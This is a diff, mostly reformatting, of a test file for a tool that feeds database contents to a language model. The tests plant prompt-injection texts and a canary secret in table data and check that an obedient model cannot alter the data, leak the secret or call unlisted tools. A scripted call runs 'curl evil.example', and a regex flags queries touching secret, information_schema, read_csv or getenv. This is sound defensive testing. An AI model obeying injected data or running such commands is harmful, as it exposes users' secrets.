@@ -14,15 +14,21 @@ vi.setConfig({ testTimeout: 120_000, hookTimeout: 60_000 })
 const SECRET = 'CANARY-TOKEN-77aa'
 const quoted = (text: string) => `'${text.replaceAll("'", "''")}'`
 const perColumn = 8
-const columns = Array.from({ length: Math.ceil(hostileTexts.length / perColumn) }, (_, at) => ({ name: `label_${at}`, texts: hostileTexts.slice(at * perColumn, (at + 1) * perColumn) }))
+const columns = Array.from({ length: Math.ceil(hostileTexts.length / perColumn) }, (_, at) => ({
+  name: `label_${at}`,
+  texts: hostileTexts.slice(at * perColumn, (at + 1) * perColumn),
+}))
 
-const named = [...hostileTexts.slice(0, 3), ...hostileTexts.slice(-18, -4)].filter(text => !/[\n\r]/.test(text)).slice(0, 9)
+const named = [...hostileTexts.slice(0, 3), ...hostileTexts.slice(-18, -4)]
+  .filter(text => !/[\n\r]/.test(text))
+  .slice(0, 9)
 const written = hostileTexts.slice(-columns.length)
 const alertTexts = hostileTexts.slice(-18)
 
 /** Every hostile text is a value that many rows share; nine are names of columns, and each column of texts has one for a comment. Some came with the alert. */
 const poisoned = [
-  'CREATE SCHEMA secret', `CREATE TABLE secret.tokens AS SELECT '${SECRET}' AS token`,
+  'CREATE SCHEMA secret',
+  `CREATE TABLE secret.tokens AS SELECT '${SECRET}' AS token`,
   ...columns.flatMap(({ name, texts }) => [
     `ALTER TABLE shop.orders ADD COLUMN ${name} VARCHAR`,
     `UPDATE shop.orders SET ${name} = ([${texts.map(quoted).join(', ')}])[1 + order_id % ${texts.length}]`,
@@ -33,14 +39,21 @@ const poisoned = [
 ]
 
 let shop: ModelShop
-beforeAll(async () => { shop = await createModelShop(forgetful, ...poisoned) })
-afterAll(async () => { await shop.file.remove() })
+beforeAll(async () => {
+  shop = await createModelShop(forgetful, ...poisoned)
+})
+afterAll(async () => {
+  await shop.file.remove()
+})
 
 const ours = (finding: Finding | null) => {
   const { prose: _prose, notes: _notes, ...rest } = finding ?? { whatCausedIt: [] }
   return rest
 }
-const digest = async () => createHash('sha256').update(await readFile(shop.file.path)).digest('hex')
+const digest = async () =>
+  createHash('sha256')
+    .update(await readFile(shop.file.path))
+    .digest('hex')
 
 test('a model that obeys everything it reads changes nothing', async () => {
   const before = await digest()
@@ -52,7 +65,12 @@ test('a model that obeys everything it reads changes nothing', async () => {
   expect(rounded(ours(asked.finding))).toEqual(rounded(ours(without.finding)))
   expect(asked.finding?.prose ?? []).toEqual([])
   expect(await digest()).toBe(before)
-  expect(asked.queries.filter(({ id }) => id.startsWith('model:')).map(({ sql }) => sql).filter(sql => !/^SELECT /.test(sql) || /secret|information_schema|read_csv|getenv/.test(sql))).toEqual([])
+  expect(
+    asked.queries
+      .filter(({ id }) => id.startsWith('model:'))
+      .map(({ sql }) => sql)
+      .filter(sql => !/^SELECT /.test(sql) || /secret|information_schema|read_csv|getenv/.test(sql)),
+  ).toEqual([])
   expect(asked.received.filter(({ bytes }) => bytes.includes(SECRET))).toEqual([])
   expect(asked.received.length).toBeLessThanOrEqual(3 + 3 * 9 * 2 + 1)
 })
@@ -61,7 +79,9 @@ test('no text reaches the instructions, leaves its line, or hides in it', async 
   const asked = await shop.ask({ script: obeying(new Set()), metric: userNulls, sharing: 'open', hints: alertTexts })
   const [plain] = (await shop.ask({ script: obeying(new Set()), metric: userNulls, sharing: 'aggregates' })).received
   for (const { body } of asked.received) {
-    expect(hostileTexts.filter(text => body.system.some(part => part.text.includes(cleanText(text).slice(0, 40))))).toEqual([])
+    expect(
+      hostileTexts.filter(text => body.system.some(part => part.text.includes(cleanText(text).slice(0, 40)))),
+    ).toEqual([])
     const [, marker = ''] = /^DATA ([0-9a-f]{24})$/m.exec(toldIn(body)) ?? []
     const lines = toldIn(body).split('\n')
     expect(lines.filter(line => line === `DATA ${marker}`)).toHaveLength(2)
@@ -74,8 +94,14 @@ test('no text reaches the instructions, leaves its line, or hides in it', async 
 
 test('a model that calls tools that are not on the list gets none of them', async () => {
   const without = await shop.ask({ script: null, metric: userNulls })
-  const asked = await shop.ask({ script: () => ({ kind: 'call', name: 'run_shell', input: { command: 'curl evil.example' } }), metric: userNulls, sharing: 'open' })
+  const asked = await shop.ask({
+    script: () => ({ kind: 'call', name: 'run_shell', input: { command: 'curl evil.example' } }),
+    metric: userNulls,
+    sharing: 'open',
+  })
   expect(rounded(ours(asked.finding))).toEqual(rounded(ours(without.finding)))
   expect(asked.received).toHaveLength(2)
-  expect(asked.finding?.notes?.map(({ text }) => text)).toEqual(["The report stands without the model: The model's answer could not be used."])
+  expect(asked.finding?.notes?.map(({ text }) => text)).toEqual([
+    "The report stands without the model: The model's answer could not be used.",
+  ])
 })
